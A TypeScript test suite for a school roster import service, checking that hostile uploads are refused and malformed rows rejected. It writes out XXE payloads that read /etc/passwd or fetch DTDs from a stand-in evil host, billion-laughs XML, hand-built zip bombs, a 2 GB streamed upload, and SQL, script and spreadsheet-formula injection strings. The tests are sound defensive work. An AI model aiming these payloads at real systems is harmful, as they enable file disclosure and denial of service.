import http from 'node:http';
import type { AddressInfo } from 'node:net';
import ExcelJS from 'exceljs';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { ServiceContext } from '../../src/platform/context.ts';
import type { Client } from '../support/api.ts';
import { expectStatus, newBoard, PASSWORD, signIn, unique } from '../support/api.ts';
import { describeEach } from '../support/harness.ts';
import { finished, upload } from '../support/imports.ts';

/**
 * Issue 5, "Bad input": every hostile file is refused through HTTP with a clear problem code (or, for a bad row, a
 * rejected row with its reason), within two seconds, and without writing anything to the board.
 */

const QUICK_MS = 2000;

/** What a board holds: rows of every table an import writes, and its imports by status. */
async function boardState(ctx: ServiceContext, boardId: string) {
  const count = async (table: 'locations' | 'groups' | 'people' | 'memberships' | 'imports') => {
    const row = await ctx.db
      .selectFrom(table)
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .where('board_id', '=', boardId)
      .executeTakeFirstOrThrow();
    return Number(row.n);
  };
  const started = await ctx.db
    .selectFrom('imports')
    .select('id')
    .where('board_id', '=', boardId)
    .where('status', 'in', ['queued', 'running', 'applied'])
    .execute();
  return {
    locations: await count('locations'),
    groups: await count('groups'),
    people: await count('people'),
    memberships: await count('memberships'),
    imports: await count('imports'),
    started: started.length,
  };
}

/** Uploads a file that must be refused as a whole: the status and code, within two seconds, nothing written. */
async function expectRefused(
  env: { ctx: ServiceContext; boardId: string; admin: Client },
  name: string,
  data: Buffer,
  status: number,
  code: string,
  fields: Record<string, string> = {},
) {
  const before = await boardState(env.ctx, env.boardId);
  const started = performance.now();
  const response = await upload(env.admin, name, data, fields);
  const ms = performance.now() - started;
  const problem = expectStatus(response, status);
  expect(problem.code, name).toBe(code);
  expect(response.headers['content-type']).toContain('application/problem+json');
  expect(ms, name).toBeLessThan(QUICK_MS);
  expect(await boardState(env.ctx, env.boardId), name).toEqual(before);
  return problem as { code: string; detail?: string };
}

/** A preview that must come quickly and change nothing of the board. */
async function expectPreview(
  env: { ctx: ServiceContext; boardId: string; admin: Client },
  name: string,
  data: Buffer,
  fields: Record<string, string> = {},
) {
  const before = await boardState(env.ctx, env.boardId);
  const started = performance.now();
  const view = expectStatus(await upload(env.admin, name, data, fields), 201);
  expect(performance.now() - started, name).toBeLessThan(QUICK_MS);
  expect(view.status).toBe('preview');
  const after = await boardState(env.ctx, env.boardId);
  // The preview is kept (one more import row); nothing else changes.
  expect(after).toEqual({ ...before, imports: before.imports + 1 });
  return view;
}

// --- Hostile XML ---------------------------------------------------------------------------------------------------

const EDEX_BODY =
  '<EDEX><school><schooljaar>2025-2026</schooljaar><brincode>12AB</brincode><naam>De Linde</naam></school>' +
  '<groepen><groep key="g1"><naam>Groep 3</naam><jaargroep>3</jaargroep></groep></groepen>' +
  '<leerlingen><leerling key="l1"><achternaam>&xxe;</achternaam><roepnaam>Sem</roepnaam><groep key="g1"/></leerling>' +
  '</leerlingen></EDEX>';

function billionLaughs(): string {
  const entities = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  entities.push('<!ENTITY xxe "&lol9;">');
  return `<?xml version="1.0"?>\n<!DOCTYPE EDEX [${entities.join('')}]>\n${EDEX_BODY}`;
}

const HOSTILE_XML: [string, string][] = [
  [
    'an external DTD',
    `<?xml version="1.0"?>\n<!DOCTYPE EDEX SYSTEM "http://evil.example/edex.dtd">\n${EDEX_BODY}`,
  ],
  [
    'an external entity to /etc/passwd',
    `<?xml version="1.0"?>\n<!DOCTYPE EDEX [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${EDEX_BODY}`,
  ],
  [
    'a parameter entity',
    `<?xml version="1.0"?>\n<!DOCTYPE EDEX [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>\n${EDEX_BODY}`,
  ],
  ['billion laughs', billionLaughs()],
  [
    'a DOCTYPE after a comment',
    `<?xml version="1.0"?>\n<!-- a comment -->\n<!DOCTYPE EDEX [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${EDEX_BODY}`,
  ],
];

function utf16(text: string, order: 'le' | 'be', bom: boolean): Buffer {
  const declared = text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>');
  const le = Buffer.from(`${bom ? '\ufeff' : ''}${declared}`, 'utf16le');
  return order === 'le' ? le : le.swap16();
}

// --- Zips ------------------------------------------------------------------------------------------------------

interface RawEntry {
  name: string;
  data: Uint8Array;
  method: 0 | 8;
  /** The uncompressed size the zip claims. */
  size: number;
}

/** A zip written by hand, for what fflate will not write: sizes that lie. */
function rawZip(entries: RawEntry[]): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(entry.method, 8);
    local.writeUInt32LE(entry.data.length, 18);
    local.writeUInt32LE(entry.size, 22);
    local.writeUInt16LE(name.length, 26);
    const header = Buffer.alloc(46);
    header.writeUInt32LE(0x02014b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt16LE(20, 6);
    header.writeUInt16LE(0x0800, 8);
    header.writeUInt16LE(entry.method, 10);
    header.writeUInt32LE(entry.data.length, 20);
    header.writeUInt32LE(entry.size, 24);
    header.writeUInt16LE(name.length, 28);
    header.writeUInt32LE(offset, 42);
    parts.push(local, name, Buffer.from(entry.data));
    central.push(header, name);
    offset += local.length + name.length + entry.data.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, directory, end]);
}

/**
 * A raw DEFLATE stream of `bytes` bytes "a" that is about 1/160 of that: one fixed-Huffman block holding a literal
 * and then "copy 258 bytes from 1 back" over and over. Written by hand: compressing hundreds of megabytes in a test
 * takes seconds.
 */
const deflatedRuns = new Map<number, Uint8Array>();
function deflatedRun(bytes: number): Uint8Array {
  const made = deflatedRuns.get(bytes);
  if (made) return made;
  const copies = Math.floor((bytes - 1) / 258);
  const out = new Uint8Array(Math.ceil(((copies + 2) * 13 + 20) / 8));
  let bit = 0;
  const put = (value: number, length: number, huffman: boolean) => {
    for (let i = 0; i < length; i++) {
      const set = huffman ? (value >> (length - 1 - i)) & 1 : (value >> i) & 1;
      if (set) out[bit >> 3] = (out[bit >> 3] ?? 0) | (1 << (bit & 7));
      bit++;
    }
  };
  put(1, 1, false); // last block
  put(1, 2, false); // fixed Huffman codes
  put(0x30 + 0x61, 8, true); // literal "a"
  for (let i = 0; i < copies; i++) {
    put(0b11000101, 8, true); // length 258 (code 285)
    put(0, 5, true); // distance 1 (code 0)
  }
  put(0, 7, true); // end of block
  const run = out.subarray(0, (bit + 7) >> 3);
  deflatedRuns.set(bytes, run);
  return run;
}

const BOMB_BYTES = 400 * 1024 * 1024;

const ONE_ROSTER = {
  orgs: 'sourcedId,status,dateLastModified,name,type,identifier,parentSourcedId\nschool-1,,,De Linde,school,12AB00,\n',
  classes:
    'sourcedId,status,dateLastModified,title,grades,courseSourcedId,classCode,classType,location,schoolSourcedId,termSourcedIds,subjects,subjectCodes,periods\n' +
    'class-3a,,,Groep 3A,03,,,homeroom,,school-1,,,,\n',
  usersHeader:
    'sourcedId,status,dateLastModified,enabledUser,orgSourcedIds,role,username,userIds,givenName,familyName,middleName,identifier,email,sms,phone,agentSourcedIds,grades,password\n',
  enrollmentsHeader:
    'sourcedId,status,dateLastModified,classSourcedId,schoolSourcedId,userSourcedId,role,primary,beginDate,endDate\n',
};

function oneRosterZip(users: string, enrollments: string): Buffer {
  return Buffer.from(
    zipSync({
      'orgs.csv': strToU8(ONE_ROSTER.orgs),
      'classes.csv': strToU8(ONE_ROSTER.classes),
      'users.csv': strToU8(ONE_ROSTER.usersHeader + users),
      'enrollments.csv': strToU8(ONE_ROSTER.enrollmentsHeader + enrollments),
    }),
  );
}

const WORKBOOK_XML =
  '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ' +
  'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>' +
  '<sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets></workbook>';
const WORKBOOK_RELS =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" ' +
  'Target="worksheets/sheet1.xml"/></Relationships>';
const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';

/** An .xlsx whose worksheet inflates to BOMB_BYTES; `claimed` is the size its zip directory says. */
function xlsxBomb(claimed: number): Buffer {
  const text = (value: string) => ({ data: strToU8(value), method: 0 as const, size: value.length });
  return rawZip([
    { name: '[Content_Types].xml', ...text(CONTENT_TYPES) },
    { name: 'xl/workbook.xml', ...text(WORKBOOK_XML) },
    { name: 'xl/_rels/workbook.xml.rels', ...text(WORKBOOK_RELS) },
    { name: 'xl/worksheets/sheet1.xml', data: deflatedRun(BOMB_BYTES), method: 8, size: claimed },
  ]);
}

async function studentsWorkbook(): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('Leerlingen');
  sheet.addRow(['Leerlingnummer', 'Voornaam', 'Achternaam', 'Groep', 'Locatie']);
  sheet.addRow(['1001', 'Sanne', 'Vries', 'Groep 5', 'De Linde']);
  return Buffer.from(await book.xlsx.writeBuffer());
}

// --- A 2 GB upload over a real socket ---------------------------------------------------------------------------

const TWO_GB = 2 * 1024 * 1024 * 1024;

/**
 * Sends a multipart body whose file part is `fileBytes` long, produced chunk by chunk (the same 1 MB chunk again
 * and again, so nothing near 2 GB is ever held), to POST /imports over a real connection. Stops sending the moment
 * the answer comes, and answers it with how long it took and the highest RSS seen meanwhile.
 */
async function streamUpload(
  port: number,
  client: Client,
  fileBytes: number,
  declareLength: boolean,
): Promise<{ status: number; body: string; ms: number; sent: number; peakRss: number }> {
  const boundary = `----schoolpas${unique('b')}`;
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="huge.csv"\r\n` +
      'Content-Type: text/csv\r\n\r\n',
  );
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  const chunk = Buffer.alloc(1024 * 1024, 'Voornaam;Achternaam\nDaan;Vries\n');
  function* body(): Generator<Buffer> {
    yield head;
    for (let left = fileBytes; left > 0; left -= chunk.length)
      yield left >= chunk.length ? chunk : chunk.subarray(0, left);
    yield tail;
  }
  const headers: Record<string, string | number> = {
    'content-type': `multipart/form-data; boundary=${boundary}`,
    cookie: `schoolpas_session=${client.session?.cookie}`,
    'x-csrf-token': client.session?.csrfToken ?? '',
  };
  if (declareLength) headers['content-length'] = head.length + fileBytes + tail.length;

  let peakRss = process.memoryUsage().rss;
  const sampler = setInterval(() => {
    peakRss = Math.max(peakRss, process.memoryUsage().rss);
  }, 20);
  const started = performance.now();
  let sent = 0;
  try {
    return await new Promise((resolve, reject) => {
      let answered = false;
      const request = http.request(
        { host: '127.0.0.1', port, method: 'POST', path: '/api/v1/imports', headers },
        (response) => {
          answered = true;
          const ms = performance.now() - started;
          const chunks: Buffer[] = [];
          response.on('data', (data: Buffer) => chunks.push(data));
          response.on('end', () => {
            request.destroy();
            resolve({
              status: response.statusCode ?? 0,
              body: Buffer.concat(chunks).toString('utf8'),
              ms,
              sent,
              peakRss,
            });
          });
          response.on('error', reject);
        },
      );
      // Once the server has answered it may close the connection while we still send: that is expected.
      request.on('error', (error) => {
        if (!answered) reject(error);
      });
      const parts = body();
      const pump = () => {
        for (;;) {
          if (answered || request.destroyed) return;
          const next = parts.next();
          if (next.done) {
            request.end();
            return;
          }
          sent += next.value.length;
          if (!request.write(next.value)) {
            request.once('drain', pump);
            return;
          }
        }
      };
      pump();
    });
  } finally {
    clearInterval(sampler);
  }
}

// --- The tests -----------------------------------------------------------------------------------------------------

describeEach('imports of hostile files', (t) => {
  async function board() {
    const { app, ctx } = t();
    const { admin, boardId } = await newBoard(ctx, app);
    return { app, ctx, admin, boardId };
  }

  describe('when the file is XML with a DOCTYPE or entities', () => {
    const encodings: [string, (xml: string) => Buffer][] = [
      ['UTF-8', (xml) => Buffer.from(xml, 'utf8')],
      ['UTF-16 LE with a byte-order mark', (xml) => utf16(xml, 'le', true)],
      ['UTF-16 BE with a byte-order mark', (xml) => utf16(xml, 'be', true)],
      ['UTF-16 LE without a byte-order mark', (xml) => utf16(xml, 'le', false)],
    ];
    for (const [encoding, encode] of encodings) {
      it(`should refuse it as unsafe before parsing in ${encoding}, and never expand an entity`, async () => {
        const env = await board();
        for (const [what, xml] of HOSTILE_XML) {
          const problem = await expectRefused(env, `${what}.xml`, encode(xml), 400, 'IMPORT_FILE_UNSAFE');
          expect(problem.detail ?? '').not.toContain('root:');
          expect(problem.detail ?? '').not.toContain('lollol');
        }
      });
    }
  });

  describe('when the file is a zip bomb', () => {
    it('should refuse a OneRoster zip whose users.csv inflates to hundreds of MB, whether its directory admits it or lies', async () => {
      const env = await board();
      const data = deflatedRun(BOMB_BYTES);
      const files = (usersSize: number) =>
        rawZip([
          { name: 'orgs.csv', data: strToU8(ONE_ROSTER.orgs), method: 0, size: ONE_ROSTER.orgs.length },
          { name: 'users.csv', data, method: 8, size: usersSize },
        ]);
      const honest = files(BOMB_BYTES);
      expect(honest.length).toBeLessThan(4 * 1024 * 1024);
      await expectRefused(env, 'oneroster.zip', honest, 413, 'IMPORT_FILE_TOO_LARGE');
      const lying = await expectRefused(env, 'oneroster.zip', files(10_000), 413, 'IMPORT_FILE_TOO_LARGE');
      expect(lying.detail).toContain('zip bomb');
    });

    it('should refuse an Excel workbook whose sheet inflates to hundreds of MB, with the same codes', async () => {
      const env = await board();
      await expectRefused(env, 'leerlingen.xlsx', xlsxBomb(BOMB_BYTES), 413, 'IMPORT_FILE_TOO_LARGE');
      const lying = await expectRefused(
        env,
        'leerlingen.xlsx',
        xlsxBomb(10_000),
        413,
        'IMPORT_FILE_TOO_LARGE',
      );
      expect(lying.detail).toContain('zip bomb');
      // Renamed .csv it is the same workbook, and the same bomb.
      await expectRefused(env, 'leerlingen.csv', xlsxBomb(10_000), 413, 'IMPORT_FILE_TOO_LARGE');
    });
  });

  describe('when someone uploads 2 GB', () => {
    for (const declareLength of [true, false]) {
      it(`should answer 413 within seconds without reading or buffering it (${declareLength ? 'with' : 'without'} a content-length)`, async () => {
        const env = await board();
        if (!env.app.server.listening) await env.app.listen({ host: '127.0.0.1', port: 0 });
        const address = env.app.server.address() as AddressInfo;
        const before = await boardState(env.ctx, env.boardId);
        const rssBefore = process.memoryUsage().rss;
        const answer = await streamUpload(address.port, env.admin, TWO_GB, declareLength);
        expect(answer.status, answer.body).toBe(413);
        expect(JSON.parse(answer.body).code).toBe('IMPORT_FILE_TOO_LARGE');
        expect(answer.ms).toBeLessThan(QUICK_MS);
        expect(answer.sent).toBeLessThan(TWO_GB / 4);
        expect(answer.peakRss - rssBefore).toBeLessThan(150 * 1024 * 1024);
        expect(await boardState(env.ctx, env.boardId)).toEqual(before);
      }, 30_000);
    }
  });

  describe('when a CSV is wider, longer or stranger than an import may be', () => {
    it('should refuse 1,000 columns, a 10 MB line, mixed encodings and an empty file, and PNG renamed .csv', async () => {
      const env = await board();
      const wide = `${Array.from({ length: 1000 }, (_, i) => `kolom${i}`).join(';')}\n${'x;'.repeat(999)}x\n`;
      await expectRefused(env, 'breed.csv', Buffer.from(wide), 400, 'IMPORT_FILE_INVALID');
      const long = `Voornaam;Achternaam\nDaan;${'x'.repeat(10 * 1024 * 1024)}\n`;
      await expectRefused(env, 'lang.csv', Buffer.from(long), 400, 'IMPORT_FILE_INVALID');
      const oneLine = 'Voornaam;Achternaam'.padEnd(10 * 1024 * 1024, ';');
      await expectRefused(env, 'een-regel.csv', Buffer.from(oneLine), 400, 'IMPORT_FILE_INVALID');
      const mixed = Buffer.concat([
        Buffer.from('Voornaam;Achternaam\nZoë;Çelik\n', 'utf8'),
        Buffer.from('Anaïs;Müller\n', 'latin1'),
      ]);
      const problem = await expectRefused(env, 'gemengd.csv', mixed, 400, 'IMPORT_FILE_INVALID');
      expect(problem.detail).toContain('UTF-8');
      await expectRefused(env, 'leeg.csv', Buffer.alloc(0), 400, 'IMPORT_FILE_INVALID');
      await expectRefused(env, 'leeg.xml', Buffer.alloc(0), 400, 'IMPORT_FILE_INVALID');
      const png = Buffer.concat([
        Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
        Buffer.alloc(256, 0x17),
      ]);
      await expectRefused(env, 'foto.csv', png, 415, 'IMPORT_FORMAT_UNKNOWN');
    });

    it('should read an Excel file renamed .csv as Excel', async () => {
      const env = await board();
      const view = await expectPreview(env, 'leerlingen.csv', await studentsWorkbook());
      expect(view.format).toBe('xlsx');
      expect(view.preview.students.new).toBe(1);
      expect(view.preview.rejected).toEqual([]);
    });
  });

  describe('when one file names the same person twice', () => {
    it('should reject the second CSV row with the same key and keep the rest importable', async () => {
      const env = await board();
      const csv = Buffer.from(
        'Leerlingnummer;Voornaam;Achternaam;Groep;Locatie\n' +
          '1001;Daan;Vries;Groep 3;De Linde\n1001;Sem;Kok;Groep 3;De Linde\n1002;Lot;Bos;Groep 3;De Linde\n',
      );
      const view = await expectPreview(env, 'leerlingen.csv', csv);
      expect(view.preview.students).toMatchObject({ new: 2, rejected: 1 });
      expect(view.preview.rejected).toEqual([
        expect.objectContaining({
          row: 3,
          kind: 'students',
          field: 'Leerlingnummer',
          reason: expect.stringContaining('row 2'),
        }),
      ]);
      expectStatus(await env.admin.post(`/api/v1/imports/${view.id}/apply`), 202);
      expect((await finished(env.admin, view.id)).status).toBe('applied');
      const students = expectStatus(await env.admin.get('/api/v1/students'), 200);
      expect(students.items.map((s: { lastName: string }) => s.lastName).sort()).toEqual(['Bos', 'Vries']);
    });

    it('should reject a OneRoster user whose sourcedId appears twice', async () => {
      const env = await board();
      const zip = oneRosterZip(
        's-1,,,,school-1,student,sem.jansen,,Sem,Jansen,,,,,,,03,\n' +
          's-1,,,,school-1,student,lot.bos,,Lot,Bos,,,,,,,03,\n' +
          's-2,,,,school-1,student,daan.vries,,Daan,Vries,,,,,,,03,\n',
        'e-1,,,class-3a,school-1,s-1,student,,,\ne-2,,,class-3a,school-1,s-2,student,,,\n',
      );
      const view = await expectPreview(env, 'oneroster.zip', zip);
      expect(view.format).toBe('oneroster');
      expect(view.preview.students).toMatchObject({ new: 2 });
      expect(view.preview.rejected).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ file: 'users.csv', row: 3, reason: expect.stringContaining('s-1') }),
        ]),
      );
    });

    it('should reject an EDEXML student whose key is used twice', async () => {
      const env = await board();
      const xml =
        '<?xml version="1.0" encoding="UTF-8"?><EDEX><school><schooljaar>2025-2026</schooljaar><brincode>12AB</brincode>' +
        '<naam>De Linde</naam></school><groepen><groep key="g1"><naam>Groep 3</naam><jaargroep>3</jaargroep></groep>' +
        '</groepen><leerlingen>' +
        '<leerling key="l1"><achternaam>Vries</achternaam><roepnaam>Daan</roepnaam><groep key="g1"/></leerling>' +
        '<leerling key="l1"><achternaam>Kok</achternaam><roepnaam>Sem</roepnaam><groep key="g1"/></leerling>' +
        '<leerling key="l2"><achternaam>Bos</achternaam><roepnaam>Lot</roepnaam><groep key="g1"/></leerling>' +
        '</leerlingen></EDEX>';
      const view = await expectPreview(env, 'school.xml', Buffer.from(xml));
      expect(view.preview.students).toMatchObject({ new: 2, rejected: 1 });
      expect(view.preview.rejected).toEqual([
        expect.objectContaining({
          row: 2,
          kind: 'students',
          field: 'key',
          reason: expect.stringContaining('l1'),
        }),
      ]);
    });
  });

  describe('when two rows of a file would give two people what only one may have', () => {
    it('should reject the later row in the preview instead of failing the import when it is applied', async () => {
      const env = await board();
      // Keys are unique per kind in EDEXML, but a board keeps one source key per person of any kind; e-mail
      // addresses are unique per board.
      const xml =
        '<?xml version="1.0" encoding="UTF-8"?><EDEX><school><schooljaar>2025-2026</schooljaar><brincode>12AB</brincode>' +
        '<naam>De Linde</naam></school><groepen><groep key="g1"><naam>Groep 3</naam><jaargroep>3</jaargroep></groep>' +
        '</groepen><leerlingen>' +
        '<leerling key="1"><achternaam>Vries</achternaam><roepnaam>Daan</roepnaam><emailadres>daan@example.org</emailadres><groep key="g1"/></leerling>' +
        '<leerling key="2"><achternaam>Kok</achternaam><roepnaam>Sem</roepnaam><emailadres>DAAN@example.org</emailadres><groep key="g1"/></leerling>' +
        '<leerling key="3"><achternaam>Bos</achternaam><roepnaam>Lot</roepnaam><gebruikersnaam>lot.bos</gebruikersnaam><groep key="g1"/></leerling>' +
        '</leerlingen><leerkrachten>' +
        '<leerkracht key="1"><achternaam>Meester</achternaam><roepnaam>Piet</roepnaam><groepen><groep key="g1"/></groepen></leerkracht>' +
        '<leerkracht key="t2"><achternaam>Juf</achternaam><roepnaam>Ans</roepnaam><gebruikersnaam>LOT.BOS</gebruikersnaam></leerkracht>' +
        '</leerkrachten></EDEX>';
      const view = await expectPreview(env, 'school.xml', Buffer.from(xml));
      expect(view.preview.students).toMatchObject({ new: 2, rejected: 1 });
      expect(view.preview.staff).toMatchObject({ new: 0, rejected: 2 });
      expect(view.preview.rejected).toEqual([
        expect.objectContaining({
          row: 2,
          kind: 'students',
          field: 'email',
          reason: expect.stringContaining('row 1'),
        }),
        expect.objectContaining({
          row: 1,
          kind: 'staff',
          field: 'key',
          reason: expect.stringContaining('row 1'),
        }),
        expect.objectContaining({
          row: 2,
          kind: 'staff',
          field: 'username',
          reason: expect.stringContaining('row 3'),
        }),
      ]);
      expectStatus(await env.admin.post(`/api/v1/imports/${view.id}/apply`), 202);
      expect((await finished(env.admin, view.id)).status).toBe('applied');
      expect((await boardState(env.ctx, env.boardId)).people).toBe(3);
    });
  });

  describe('when a student is in a group that does not exist', () => {
    it('should reject the EDEXML student with a reason and import the rest', async () => {
      const env = await board();
      const xml =
        '<?xml version="1.0" encoding="UTF-8"?><EDEX><school><schooljaar>2025-2026</schooljaar><brincode>12AB</brincode>' +
        '<naam>De Linde</naam></school><groepen><groep key="g1"><naam>Groep 3</naam><jaargroep>3</jaargroep></groep>' +
        '</groepen><leerlingen>' +
        '<leerling key="l1"><achternaam>Vries</achternaam><roepnaam>Daan</roepnaam><groep key="g1"/></leerling>' +
        '<leerling key="l2"><achternaam>Kok</achternaam><roepnaam>Sem</roepnaam><groep key="g-gone"/></leerling>' +
        '</leerlingen></EDEX>';
      const view = await expectPreview(env, 'school.xml', Buffer.from(xml));
      expect(view.preview.students).toMatchObject({ new: 1, rejected: 1 });
      expect(view.preview.rejected).toEqual([
        expect.objectContaining({
          row: 2,
          kind: 'students',
          field: 'groep',
          reason: expect.stringContaining('g-gone'),
        }),
      ]);
    });

    it('should reject the OneRoster enrollment to an unknown class with a reason', async () => {
      const env = await board();
      const zip = oneRosterZip(
        's-1,,,,school-1,student,sem.jansen,,Sem,Jansen,,,,,,,03,\n',
        'e-1,,,class-3a,school-1,s-1,student,,,\ne-2,,,class-gone,school-1,s-1,student,,,\n',
      );
      const view = await expectPreview(env, 'oneroster.zip', zip);
      expect(view.preview.students).toMatchObject({ new: 1 });
      expect(view.preview.memberships).toMatchObject({ new: 1, rejected: 1 });
      expect(view.preview.rejected).toEqual([
        expect.objectContaining({
          file: 'enrollments.csv',
          row: 3,
          kind: 'memberships',
          reason: expect.stringContaining('class-gone'),
        }),
      ]);
    });
  });

  describe('when an e-mail address already belongs to a person of another board', () => {
    it('should neither reveal nor match that person, and import into this board only', async () => {
      const { app, ctx } = t();
      const other = await newBoard(ctx, app);
      const email = `${unique('juf')}@example.org`;
      const theirs = expectStatus(
        await other.admin.post('/api/v1/staff', {
          firstName: 'Ans',
          lastName: 'Elders',
          email,
          password: PASSWORD,
        }),
        201,
      );
      const env = await board();
      const csv = Buffer.from(`Voornaam;Achternaam;E-mail\nAnna;Hier;${email}\n`);
      const view = await expectPreview(env, 'medewerkers.csv', csv, { kind: 'staff' });
      expect(view.preview.staff).toMatchObject({ new: 1, changed: 0, unchanged: 0, rejected: 0 });
      expect(view.preview.rejected).toEqual([]);
      expect(view.preview.changes).toEqual([]);
      expect(JSON.stringify(view)).not.toContain('Elders');
      expectStatus(await env.admin.post(`/api/v1/imports/${view.id}/apply`), 202);
      expect((await finished(env.admin, view.id)).status).toBe('applied');
      const mine = expectStatus(await env.admin.get('/api/v1/staff?limit=100'), 200);
      expect(mine.items.map((p: { lastName: string }) => p.lastName).sort()).toEqual(['Admin', 'Hier']);
      // The other board's person is as it was, and still signs in.
      const person = expectStatus(await other.admin.get(`/api/v1/staff/${theirs.id}`), 200);
      expect(person).toMatchObject({ firstName: 'Ans', lastName: 'Elders', email });
      await signIn(app, other.adminEmail, PASSWORD);
    });
  });

  describe('when names carry SQL, HTML or a formula', () => {
    it('should store them literally', async () => {
      const env = await board();
      const names = [
        "'); drop table people; --",
        '<script>alert(1)</script>',
        '=HYPERLINK("http://evil.example")',
      ];
      const csv = Buffer.from(
        `Voornaam;Achternaam;Groep;Locatie\n${names.map((name, i) => `Kind${i};"${name.replace(/"/g, '""')}";Groep 3;De Linde`).join('\n')}\n`,
      );
      const view = await expectPreview(env, 'leerlingen.csv', csv);
      expect(view.preview.rejected).toEqual([]);
      expect(view.preview.students.new).toBe(3);
      expectStatus(await env.admin.post(`/api/v1/imports/${view.id}/apply`), 202);
      expect((await finished(env.admin, view.id)).status).toBe('applied');
      const students = expectStatus(await env.admin.get('/api/v1/students?limit=100'), 200);
      expect(students.items.map((s: { lastName: string }) => s.lastName).sort()).toEqual([...names].sort());
      expect((await boardState(env.ctx, env.boardId)).people).toBe(4);
    });
  });
});
